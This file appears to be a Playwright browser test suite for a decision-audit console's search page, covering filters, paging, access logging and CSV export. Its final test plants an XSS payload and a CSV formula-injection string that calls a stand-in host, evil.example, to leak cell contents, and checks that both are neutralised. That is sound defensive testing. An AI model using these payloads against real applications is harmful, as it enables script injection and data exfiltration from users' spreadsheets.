"""The decisions search page in Chromium: the API's filters, cursor paging, the CSV download,
and hostile producer text that neither runs nor survives into the CSV as a formula."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path
from typing import Any

import orjson
import pytest
from playwright.sync_api import Page, expect

from tests.console.world import ConsoleWorld
from tests.decisions.helpers import overridden, recorded

pytestmark = pytest.mark.browser


def decision_at(n: int) -> dict[str, Any]:
    item = recorded(
        f"d-{n:03d}",
        model={"name": "credit-gbm", "version": f"4.{n % 3}.0"},
        policy={"id": "lending-eu", "version": str(7 + n % 2)},
        output={"decision": "approved" if n % 4 == 0 else "declined", "score": n / 100},
        data_subject_ref=f"hmac:subject-{n % 5}",
    )
    item["time"] = f"2026-11-{1 + n // 10:02d}T10:{n % 60:02d}:00Z"
    return item


def shown_ids(page: Page) -> list[str]:
    return page.locator("table.results tbody tr td:nth-child(2)").all_inner_texts()


def test_filters_and_cursor_paging_match_the_api(world: ConsoleWorld, page: Page) -> None:
    world.append(*[decision_at(n) for n in range(30)], overridden("d-004"))
    world.sign_in(page)
    page.goto(world.base_url + "/console/decisions")
    page.get_by_label("Model version").fill("4.1.0")
    page.get_by_label("Decision", exact=True).fill("declined")
    page.get_by_label("Score at least").fill("0.1")
    page.get_by_role("button", name="Search").click()
    expected = [f"d-{n:03d}" for n in range(29, 9, -1) if n % 3 == 1 and n % 4 != 0]
    assert shown_ids(page) == expected
    api = world.api(
        "GET",
        "/v1/decisions",
        key=world.keys.auditor,
        params={"model_version": "4.1.0", "decision": "declined", "score_min": "0.1"},
    ).json()
    assert [d["decision_id"] for d in api["decisions"]] == expected

    page.goto(world.base_url + "/console/decisions?limit=12")
    seen: list[str] = []
    while True:
        seen += shown_ids(page)
        following = page.get_by_role("link", name="Next page")
        if following.count() == 0:
            break
        following.click()
    assert seen == [f"d-{n:03d}" for n in range(29, -1, -1)]

    page.goto(world.base_url + "/console/decisions")
    page.get_by_label("Overridden").select_option("yes")
    page.get_by_role("button", name="Search").click()
    assert shown_ids(page) == ["d-004"]
    expect(page.locator("table.results")).to_contain_text("overridden")

    # The producer that recorded them: every one of this test's decisions, and none of another's.
    page.goto(world.base_url + "/console/decisions?limit=100")
    page.get_by_label("Producer (CloudEvents source)").fill("urn:test:credit")
    page.get_by_role("button", name="Search").click()
    assert shown_ids(page) == [f"d-{n:03d}" for n in range(29, -1, -1)]
    page.get_by_label("Producer (CloudEvents source)").fill("urn:test:another-model")
    page.get_by_role("button", name="Search").click()
    assert shown_ids(page) == []


def test_every_search_page_is_recorded_like_the_apis(world: ConsoleWorld, page: Page) -> None:
    world.sign_in(page)
    page.goto(world.base_url + "/console/decisions?decision=approved")
    page.goto(world.base_url + "/console/decisions?decision=declined")
    entries = world.api(
        "GET", "/v1/chains/access-log/entries", key=world.keys.auditor, params={"limit": 100}
    )
    events = [orjson.loads(base64.b64decode(e["leaf"]))["event"] for e in entries.json()["entries"]]
    searches = [e["data"] for e in events if e["data"].get("action") == "decisions.search"]
    assert [s["query"] for s in searches[-2:]] == [
        {"decision": "approved"},
        {"decision": "declined"},
    ]
    assert {s["accessor"]["key_id"] for s in searches} == {world.key_id(world.keys.auditor)}


def test_planted_script_and_formula_neither_run_nor_reach_the_csv(
    world: ConsoleWorld, page: Page
) -> None:
    script = '<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">'
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    world.append(
        recorded("hostile-1", output={"decision": script, "score": 0.5}),
        recorded("hostile-2", output={"decision": formula, "score": 0.6}),
        recorded("+hostile-3", output={"decision": "-2+3", "score": 0.7}),
    )
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    world.sign_in(page)
    page.goto(world.base_url + "/console/decisions")
    expect(page.locator("table.results")).to_contain_text("<script>window.pwned = 1</script>")
    assert page.evaluate("window.pwned") is None
    assert page.locator("table.results script, table.results img").count() == 0
    assert dialogs == []

    with page.expect_download() as download:
        page.get_by_role("link", name="Download CSV of this search").click()
    text = Path(download.value.path()).read_text(encoding="utf-8")
    rows = {row["decision_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["hostile-2"]["decision"] == "'" + formula
    assert rows["'+hostile-3"]["decision"] == "'-2+3"
    assert rows["hostile-1"]["decision"] == script  # text, harmless in a spreadsheet
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
